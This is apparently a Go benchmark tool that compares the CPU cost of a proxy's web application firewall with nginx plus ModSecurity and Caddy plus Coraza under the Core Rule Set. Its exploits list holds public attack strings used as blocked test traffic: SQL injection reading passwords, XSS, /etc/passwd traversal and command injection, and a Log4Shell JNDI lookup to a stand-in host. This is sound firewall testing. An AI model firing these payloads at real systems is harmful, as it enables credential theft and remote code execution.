// Command wafdoor measures what judging a browser's request costs the whole door, beside nginx with ModSecurity and, where it is
// given, Caddy with Coraza: processor time of each program for each request, in one run, in front of one origin. All of them
// have the same Core Rule Set at paranoia level 1 and block. Everything is on loopback.
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
)

func main() {
	var b bench
	flag.StringVar(&b.door, "door", "bin/stormdoor", "the door's binary")
	flag.StringVar(&b.caddy, "caddy", "", "Caddy with coraza-caddy in it; left out without one")
	flag.StringVar(&b.rules, "rules", "internal/gate/waf/crs", "the folder of the Core Rule Set")
	flag.IntVar(&b.requests, "n", 4000, "requests of each program in each round; of ModSecurity and Coraza a tenth")
	flag.IntVar(&b.rounds, "rounds", 5, "rounds, of which the median counts")
	flag.Parse()
	if err := b.run(); err != nil {
		fmt.Fprintln(os.Stderr, "wafdoor:", err)
		os.Exit(1)
	}
}

// bench is one run.
type bench struct {
	door, caddy, rules string
	requests, rounds   int
	dir                string
	origin             string
}

// The programs, as the table names them.
const (
	doorPlain   = "stormdoor, no firewall"
	doorWAF     = "stormdoor, firewall"
	nginxPlain  = "nginx, no firewall"
	nginxModsec = "nginx + ModSecurity"
	caddyCoraza = "Caddy + Coraza"
)

func (b *bench) run() (err error) {
	for _, p := range []*string{&b.door, &b.rules, &b.caddy} {
		if *p != "" {
			if *p, err = filepath.Abs(*p); err != nil {
				return err
			}
		}
	}
	if b.dir, err = os.MkdirTemp("", "wafdoor"); err != nil {
		return err
	}
	defer os.RemoveAll(b.dir)
	origin, err := startOrigin()
	if err != nil {
		return err
	}
	b.origin = origin
	names := []string{doorPlain, doorWAF, nginxPlain, nginxModsec}
	if b.caddy != "" {
		names = append(names, caddyCoraza)
	}
	var peers []*peer
	defer func() {
		for _, p := range peers {
			p.stop()
		}
	}()
	for _, name := range names {
		p, err := b.start(name)
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		peers = append(peers, p)
		if err := p.check(); err != nil {
			return errors.Join(fmt.Errorf("%s: %w", name, err), p.words())
		}
	}
	return b.measure(peers)
}

// kinds are the requests that are measured.
var kinds = []struct {
	name    string
	request func(n int) string
}{
	{"browser's GET", func(int) string { return browserGET(0) }},
	{"with values never seen", browserGET},
	{"exploit, refused", exploitGET},
}

func (b *bench) measure(peers []*peer) error {
	results := map[string][]float64{} // by program and kind: microseconds of each round
	for range b.rounds {
		for _, p := range peers {
			for _, k := range kinds {
				n := b.requests
				if p.name == nginxModsec || p.name == caddyCoraza {
					n /= 10
				}
				us, err := p.drive(n, k.request)
				if err != nil {
					return errors.Join(fmt.Errorf("%s, %s: %w", p.name, k.name, err), p.words())
				}
				results[p.name+k.name] = append(results[p.name+k.name], us)
			}
		}
	}
	fmt.Printf("%-26s", "CPU us a request")
	for _, k := range kinds {
		fmt.Printf(" %24s", k.name)
	}
	fmt.Println()
	for _, p := range peers {
		fmt.Printf("%-26s", p.name)
		for _, k := range kinds {
			fmt.Printf(" %24.1f", median(results[p.name+k.name]))
		}
		fmt.Println()
	}
	for _, p := range peers[3:] {
		fmt.Printf("%-26s", "door / "+p.name)
		for _, k := range kinds {
			fmt.Printf(" %24s", fmt.Sprintf("%.4f", median(results[doorWAF+k.name])/median(results[p.name+k.name])))
		}
		fmt.Println()
	}
	fmt.Printf("%-26s", "refusal / forward")
	fmt.Printf(" %74s\n", fmt.Sprintf("%.2f with the firewall, %.2f without", median(results[doorWAF+kinds[2].name])/median(results[doorWAF+kinds[0].name]),
		median(results[doorWAF+kinds[2].name])/median(results[doorPlain+kinds[0].name])))
	return nil
}

func median(of []float64) float64 {
	s := slices.Clone(of)
	slices.Sort(s)
	return s[len(s)/2]
}

// browserGET is what a browser asks for, with values of its own for each n.
func browserGET(n int) string {
	return fmt.Sprintf("GET /shop/items/list?category=garden+tools%[1]d&page=%[1]d&sort=price_asc&q=lawn%%20mower%[1]d&ref=newsletter%[1]d HTTP/1.1\r\n"+
		"Host: www.example.org\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n"+
		"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36\r\n"+
		"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8\r\n"+
		"Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n"+
		"Referer: https://www.example.org/shop/items?category=garden%[1]d\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9,de;q=0.8\r\n"+
		"Cookie: session=7f3c9a52e1b84d06a%[1]d; theme=dark%[1]d; _ga=GA1.2.13489%[1]d.1699876543; _gid=GA1.2.77%[1]d.1699; cart=3f%[1]d; consent=yes%[1]d\r\n\r\n", n)
}

// exploits are public ones.
var exploits = []string{
	"/?id=1%%27%%20UNION%%20SELECT%%20password%%20FROM%%20users--%d", "/search?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E", "/download?file=../../../../etc/passwd&n=%d",
	"/cgi-bin/test?c=;cat%%20/etc/passwd&n=%d", "/?x=${jndi:ldap://192.0.2.1/a%d}",
}

func exploitGET(n int) string {
	return "GET " + fmt.Sprintf(exploits[n%len(exploits)], n) + " HTTP/1.1\r\nHost: www.example.org\r\n" +
		"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\n\r\n"
}

// include lists the files of the Core Rule Set for ModSecurity.
func (b *bench) include() string {
	return strings.Join([]string{
		"SecRuleEngine On", "SecRequestBodyAccess On", "SecResponseBodyAccess Off", "SecRequestBodyLimit 131072", "SecRequestBodyNoFilesLimit 131072",
		"SecAuditEngine Off", "Include " + b.rules + "/crs-setup.conf.example", "Include " + b.rules + "/rules/*.conf", "",
	}, "\n")
}
